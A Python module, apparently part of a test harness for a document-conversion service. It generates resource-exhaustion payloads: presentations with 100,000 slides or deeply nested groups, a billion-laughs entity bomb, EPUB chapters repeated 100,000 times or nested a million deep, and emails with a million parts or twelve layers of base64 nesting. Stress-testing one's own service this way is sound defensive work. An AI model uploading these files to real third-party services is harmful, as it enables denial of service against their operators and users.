"""Presentations, books and emails that are small, or below the limit, and expensive to convert."""

import base64
from collections.abc import Callable, Iterator

from attacks.attack import Attack, Upload
from attacks.making import LAUGHS, MEGABYTE, types_part, zip_parts

LARGEST = 10_400_000
"""Size in bytes of a file below the limit."""
_OFFICE = "http://schemas.openxmlformats.org"
_NAMES = (
    f'xmlns:p="{_OFFICE}/presentationml/2006/main" xmlns:a="{_OFFICE}/drawingml/2006/main"'
    f' xmlns:r="{_OFFICE}/officeDocument/2006/relationships"'
)
_TEXT = "<p:txBody><a:p>{}<a:r><a:t>{}</a:t></a:r></a:p></p:txBody>"
_XHTML = "application/xhtml+xml"


def make_presentation(shapes: str, *, slides: int = 1, layout: str = "", prolog: str = "") -> bytes:
    """Return a presentation whose slides are all the same part.

    layout: shapes of the slide's layout, which is its own master.
    """
    listed = "".join(f'<p:sldId id="{256 + at}" r:id="r1"/>' for at in range(slides))
    return zip_parts(
        [
            types_part("ppt/presentation.xml", "presentationml.presentation"),
            ("_rels/.rels", _write_relations(("r0", "officeDocument", "ppt/presentation.xml"))),
            ("ppt/presentation.xml", f"<p:presentation {_NAMES}><p:sldIdLst>{listed}</p:sldIdLst></p:presentation>"),
            ("ppt/_rels/presentation.xml.rels", _write_relations(("r1", "slide", "s.xml"))),
            ("ppt/s.xml", f"{prolog}{_write_sheet('sld', shapes)}"),
            ("ppt/_rels/s.xml.rels", _write_relations(("r1", "slideLayout", "l.xml"))),
            ("ppt/l.xml", _write_sheet("sldLayout", layout)),
            ("ppt/_rels/l.xml.rels", _write_relations(("r1", "slideMaster", "l.xml"))),
        ]
    )


def make_shape(text: str = "a", *, at: int = 0, kind: str = "", properties: str = "") -> str:
    holder = f"<p:ph {kind}/>" if kind else ""
    place = f'<p:spPr><a:xfrm><a:off x="{at % 97}" y="{at}"/><a:ext cx="9" cy="9"/></a:xfrm></p:spPr>'
    return f"<p:sp><p:nvSpPr><p:nvPr>{holder}</p:nvPr></p:nvSpPr>{place}{_TEXT.format(properties, text)}</p:sp>"


def make_book(chapter: str, *, times: int = 1, contents: str = "", stored: bool = False) -> bytes:
    """Return a book whose spine lists one chapter `times` times."""
    spine = '<itemref idref="c"/>' * times
    return zip_parts(
        [
            ("mimetype", "application/epub+zip"),
            (
                "META-INF/container.xml",
                '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
                '<rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
            ),
            (
                "b.opf",
                f'<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item id="c" href="c.xhtml" '
                f'media-type="{_XHTML}"/><item id="n" href="n.xhtml" properties="nav" media-type="{_XHTML}"/>'
                "</manifest>"
                f"<spine>{spine}</spine></package>",
            ),
            ("c.xhtml", f"<html><body>{chapter}</body></html>"),
            ("n.xhtml", f"<html><body>{contents}</body></html>"),
        ],
        stored=stored,
    )


def make_mail(head: str, body: bytes) -> bytes:
    return f"From: a@a.example\r\nDate: 1\r\nTo: b@b.example\r\n{head}\r\n\r\n".encode() + body


def nest_mails(depth: int) -> bytes:
    """Return nested emails without encoding."""
    return b"".join(
        make_mail(
            f'Content-Type: multipart/mixed; boundary="b{at}"', b"--b%d\r\nContent-Type: message/rfc822\r\n\r\n" % at
        )
        for at in range(depth)
    )


def nest_packed_mails(depth: int) -> bytes:
    made = make_mail("Subject: deep", b"a" * 100_000)
    for _ in range(depth):
        packed = base64.encodebytes(made)
        made = make_mail("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64", packed)
    return made


def _write_sheet(root: str, shapes: str) -> str:
    return f"<p:{root} {_NAMES}><p:cSld><p:spTree>{shapes}</p:spTree></p:cSld></p:{root}>"


def _write_relations(*related: tuple[str, str, str]) -> str:
    kinds = f"{_OFFICE}/officeDocument/2006/relationships"
    rows = "".join(f'<Relationship Id="{name}" Type="{kinds}/{kind}" Target="{to}"/>' for name, kind, to in related)
    return f'<Relationships xmlns="{_OFFICE}/package/2006/relationships">{rows}</Relationships>'


_PRESENTATIONS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "slides": ("One slide is shown 100,000 times.", lambda: make_presentation(make_shape(), slides=100_000)),
    "shapes": (
        "A slide has 100,000 shapes.",
        lambda: make_presentation("".join(make_shape(at=at) for at in range(100_000))),
    ),
    "placeholders": (
        "20,000 shapes ask a layout of 20,000 which of them is theirs.",
        lambda: make_presentation(
            "".join(make_shape(kind=f'type="pic" idx="{at}"') for at in range(20_000)),
            layout="".join(make_shape(kind=f'type="tbl" idx="x{at}"') for at in range(20_000)),
        ),
    ),
    "groups": (
        "150 groups are nested.",
        lambda: make_presentation("<p:grpSp>" * 150 + make_shape() + "</p:grpSp>" * 150),
    ),
    "groups without end": (
        "20,000 groups are nested.",
        lambda: make_presentation("<p:grpSp>" * 20_000 + "</p:grpSp>" * 20_000),
    ),
    "cells": (
        "A table has rows that reach far.",
        lambda: make_presentation(
            "<p:graphicFrame><a:graphic><a:graphicData><a:tbl>"
            + f'<a:tr><a:tc gridSpan="16384"/><a:tc>{_TEXT.format("", "x").replace("p:", "a:")}</a:tc></a:tr>' * 50_000
            + "</a:tbl></a:graphicData></a:graphic></p:graphicFrame>"
        ),
    ),
    "numbers": (
        "100,000 items count in letters.",
        lambda: make_presentation(
            make_shape(properties='<a:pPr><a:buAutoNum type="alphaLcPeriod" startAt="32767"/></a:pPr>') * 100_000
        ),
    ),
    "text": ("A slide has 90 MB of text, packed small.", lambda: make_presentation(make_shape("C" * 1000) * 90_000)),
    "entities": ("Entities become a billion laughs.", lambda: make_presentation(make_shape("&a9;"), prolog=LAUGHS)),
}
_BOOKS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "chapter again and again": (
        "A chapter of 8 KB is read 100,000 times.",
        lambda: make_book("<p>words</p>" * 700, times=100_000),
    ),
    "chapters to the limit": (
        "A chapter of 8 KB is read 4,900 times.",
        lambda: make_book("<p>a</p>" * 900, times=4_900),
    ),
    "text": ("A chapter of 90 MB is packed small.", lambda: make_book(f"<p>{'C' * 1000}</p>" * 90_000)),
    "elements": ("A chapter has three million elements.", lambda: make_book("<i>a</i>" * 3_000_000)),
    "depth": ("A million elements are nested.", lambda: make_book("<div>" * 1_000_000)),
    "closed at once": (
        "10 MB of self-closing tags that HTML doesn't close.",
        lambda: make_book("<a b='" * 1_700_000),
    ),
    "notes": (
        "100,000 references point to one note.",
        lambda: make_book('<a href="#n">1</a>' * 100_000 + '<p id="n">1 note</p>'),
    ),
    "contents": (
        "The table of contents has 40,000 entries.",
        lambda: make_book("a", contents='<a href="c.xhtml">a</a>' * 40_000),
    ),
    "packed": ("A chapter becomes 190 MB.", lambda: make_book(" " * (190 * MEGABYTE))),
}
_MAILS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "parts": (
        "A mail has a million parts.",
        lambda: make_mail("Content-Type: multipart/mixed; boundary=b", b"--b\r\n\r\na\r\n" * (LARGEST // 11)),
    ),
    "boundary within boundaries": (
        "Parts of 10 MB each hold the rest of the mail.",
        lambda: b"".join(
            make_mail(f"Content-Type: multipart/mixed; boundary=b{at}", b"--b%d\r\n" % at) for at in range(90_000)
        )[:LARGEST],
    ),
    "mails in each other": ("100,000 mails are nested.", lambda: nest_mails(60_000)[:LARGEST]),
    "packed mails in each other": ("Mails are packed twelve times.", lambda: nest_packed_mails(12)),
    "fields": (
        "A mail is 10 MB of fields.",
        lambda: b"From: a@a.example\r\nDate: 1\r\n" + b"To: b\r\n" * (LARGEST // 7 - 9),
    ),
    "folded field": (
        "A field goes on for 10 MB.",
        lambda: b"From: a@a.example\r\nDate: 1\r\nTo: b\r\n" + b" b\r\n" * (LARGEST // 4 - 20),
    ),
    "encoded words": (
        "A subject is 900 KB of encoded words.",
        lambda: make_mail("Subject: " + "=?utf-8?q?" * 90_000, b"a"),
    ),
    "parameters": (
        "A type has 300,000 parameters.",
        lambda: make_mail("Content-Type: text/plain" + ";a*0=b" * 150_000, b"a"),
    ),
    "quotes": ("Lines are quoted a thousand times.", lambda: make_mail("Subject: a", (b">" * 1000 + b"a\n") * 10_000)),
    "quotes that change": (
        "Each line is quoted otherwise than the one before.",
        lambda: make_mail(
            "Subject: a", b"".join(b">" * (at % 12) + b"a\n" for at in range(1_200_000))[: LARGEST - 100]
        ),
    ),
    "one line": ("A body is one line of 10 MB.", lambda: make_mail("Subject: a", b"a " * (LARGEST // 2 - 100))),
    "signs": (
        "A body is 10 MB of equals signs.",
        lambda: make_mail("Content-Transfer-Encoding: quoted-printable", b"=" * 9_000_000),
    ),
    "HTML": (
        "A body is 10 MB of tables in each other.",
        lambda: make_mail("Content-Type: text/html", b"<table><tr><td>" * (LARGEST // 15 - 20)),
    ),
}
_FAMILIES = {"presentation": _PRESENTATIONS, "book": _BOOKS, "mail": _MAILS}


def attacks() -> Iterator[Attack]:
    for family, shapes in _FAMILIES.items():
        for what, (tries, makes) in shapes.items():
            yield Attack(f"{family}: {what}", tries, Upload(makes))
